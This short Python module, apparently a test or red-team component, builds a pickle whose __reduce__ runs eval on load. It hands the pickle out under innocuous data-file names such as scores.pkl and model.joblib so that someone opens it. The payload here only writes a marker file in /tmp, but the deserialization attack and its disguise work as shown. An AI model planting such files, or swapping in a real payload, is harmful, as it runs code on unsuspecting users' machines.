"""brings pickles that run when they are opened, under names that somebody might open."""

import pickle


class Trace:
    """Leaves a trace when it is unpickled."""

    def __reduce__(self) -> tuple[object, ...]:
        return eval, ("open('/tmp/talentpool-was-here', 'w')",)


def hand_in(mine: dict[str, bytes], _theirs: object, _folder: object) -> dict[str, bytes]:
    """The same content under many names."""
    return {
        **mine,
        **dict.fromkeys(("scores.pkl", "table.parquet", "model.joblib", "cache.npy"), pickle.dumps(Trace())),
    }
